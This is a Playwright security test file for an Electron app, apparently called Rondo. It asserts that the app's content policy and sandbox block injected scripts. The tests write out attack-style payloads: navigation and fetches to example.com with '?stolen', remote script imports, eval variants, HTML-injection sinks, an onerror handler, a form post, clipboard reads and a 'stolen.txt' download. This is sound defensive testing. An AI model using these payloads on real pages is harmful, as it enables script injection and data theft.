import { readdir } from 'node:fs/promises';
import { dirname } from 'node:path';
import { expect } from '@playwright/test';
import { test } from './rondo-test.ts';

/*
 * What a page could try if a label of CircleCI's ever slipped through as markup, or a package of ours were poisoned. Each
 * script runs in the page as its own would; text, because these tests do not speak the page's language.
 */

test('a page cannot leave, open, load or run anything that is not in the bundle', async ({ rondo }) => {
  const { page, complaints } = await rondo({ vault: 'empty' });
  const home = page.url();
  const attempt = (script: string) => page.evaluate<unknown>(script);

  await attempt(`location.href = 'https://example.com/?stolen'`);
  await attempt(`location.href = 'data:text/html,<h1>Rondo is locked</h1>'`);
  await attempt(`void window.open('https://example.com/')`);
  const refused = `(what) => what.then(() => 'done', () => 'refused')`;
  expect(await attempt(`(${refused})(fetch('https://example.com/', { mode: 'no-cors' }))`)).toBe('refused');
  expect(await attempt(`(${refused})(fetch('/index.html'))`)).toBe('refused');
  expect(await attempt(`(${refused})(import('https://example.com/x.js'))`)).toBe('refused');
  expect(await attempt(`(${refused})(import('data:text/javascript,0'))`)).toBe('refused');
  expect(await attempt(`(${refused})(navigator.serviceWorker?.register('/x.js') ?? Promise.reject())`)).toBe('refused');
  // In a task of the page's own: a debugger's call itself is exempt from the policy.
  const inTask = (what: string) =>
    attempt(`new Promise((resolve) => setTimeout(() => {
      try { ${what}; resolve('done'); } catch (error) { resolve(error.name); }
    }))`);
  expect(await inTask(`[].map(String)`)).toBe('done');
  for (const evaluation of [`eval('1')`, `(0, eval)('1')`, `new Function('1')`, `[].map.constructor('1')()`])
    expect(await inTask(evaluation), evaluation).toBe('EvalError');
  await inTask(`setTimeout('globalThis.ran = true')`);
  // No text becomes markup, not even harmless markup.
  for (const sink of [
    `document.body.innerHTML += '<b>bold</b>'`,
    `document.body.insertAdjacentHTML('beforeend', '<b>bold</b>')`,
    `document.body.append(document.createRange().createContextualFragment('<b>bold</b>'))`,
    `document.write('<b>bold</b>')`,
    `document.createElement('script').src = '/index.js'`,
    `document.createElement('iframe').srcdoc = '<b>bold</b>'`,
    `trustedTypes.createPolicy('own', { createHTML: String })`,
  ])
    expect(await inTask(sink), sink).toBe('TypeError');
  // Images are allowed from the bundle: its failure comes after everything before it had its chance.
  const ran = await attempt(`new Promise((resolve) => {
    addEventListener('error', () => resolve(globalThis.ran ?? 'never ran'), { capture: true });
    const add = (name, attributes, text = '') => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) {
        // What would run is refused here already.
        try { element.setAttribute(key, value); } catch {}
      }
      element.append(text);
      document.body.append(element);
      return element;
    };
    add('script', {}, 'globalThis.ran = true');
    add('script', { src: 'https://example.com/x.js' });
    add('iframe', { srcdoc: '<script>parent.ran = true</script>' });
    add('iframe', { src: 'data:text/html,<script>parent.ran = true</script>' });
    add('object', { data: 'https://example.com/x.swf' });
    add('base', { href: 'https://example.com/' });
    add('form', { action: 'https://example.com/' }).submit();
    add('img', { src: '/nowhere.png', onerror: 'globalThis.ran = true' });
  })`);
  expect(ran).toBe('never ran');
  expect(page.url()).toBe(home);
  await expect.poll(() => page.context().pages().length).toBe(1);
  // The policy is what refused most of it: it says so of each.
  expect(complaints.filter((complaint) => /Content Security Policy/.test(complaint)).length).toBeGreaterThan(5);
});

test('a page reaches nobody past its requests: the app gave its browser no network', async ({ rondo }) => {
  const { page, desktop } = await rondo({ vault: 'empty' });
  expect(await desktop.switch('host-resolver-rules')).toBe('MAP * ~NOTFOUND');
  expect(await desktop.switch('proxy-server')).toMatch(/\.invalid:1$/);
  expect(await desktop.switch('proxy-bypass-list')).toBe('<-loopback>');
  // Without datagrams there is no address of this computer to offer, and nobody to ask for one.
  const offered = await page.evaluate(`(async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] });
    const offered = [];
    const gathered = new Promise((resolve) => {
      connection.onicecandidate = ({ candidate }) => (candidate ? offered.push(candidate.candidate) : resolve());
    });
    connection.createDataChannel('out');
    await connection.setLocalDescription();
    await gathered;
    return offered.filter((candidate) => / udp /i.test(candidate));
  })()`);
  expect(offered).toEqual([]);
});

test('a page has no Node, no Electron, no preload of its own: two functions', async ({ rondo }) => {
  const { page } = await rondo({ vault: 'empty' });
  expect(
    await page.evaluate(
      `['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter((name) => name in globalThis)`,
    ),
  ).toEqual([]);
  expect(await page.evaluate(`Object.keys(rondo).toSorted()`)).toEqual(['call', 'subscribe']);
  expect(await page.evaluate(`String(rondo.call)`)).not.toContain('ipcRenderer');
  // Replacing what the preload gave must change nothing for anybody.
  expect(
    await page.evaluate(`(() => { try { rondo.call = () => 1; } catch {} return Object.isFrozen(rondo); })()`),
  ).toBe(true);
});

test('a page is granted nothing of the computer, and downloads nothing', async ({ rondo }) => {
  const { page, desktop, vaultDir } = await rondo({ vault: 'empty' });
  for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'])
    expect(
      await page.evaluate(`navigator.permissions.query({ name: '${name}' }).then(({ state }) => state)`),
      name,
    ).toBe('denied');
  const refused = `(what) => what.then(() => 'done', () => 'refused')`;
  expect(await page.evaluate(`(${refused})(navigator.clipboard.readText())`)).toBe('refused');
  expect(await page.evaluate(`(${refused})(navigator.mediaDevices.getUserMedia({ audio: true }))`)).toBe('refused');
  await page.evaluate(`{
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['stolen']));
    link.download = 'stolen.txt';
    link.click();
  }`);
  await expect.poll(() => desktop.downloads()).toEqual(['stolen.txt refused']);
  const written = await readdir(dirname(vaultDir), { recursive: true });
  expect(written).toContain('vault');
  expect(written.filter((name) => name.includes('stolen'))).toEqual([]);
});
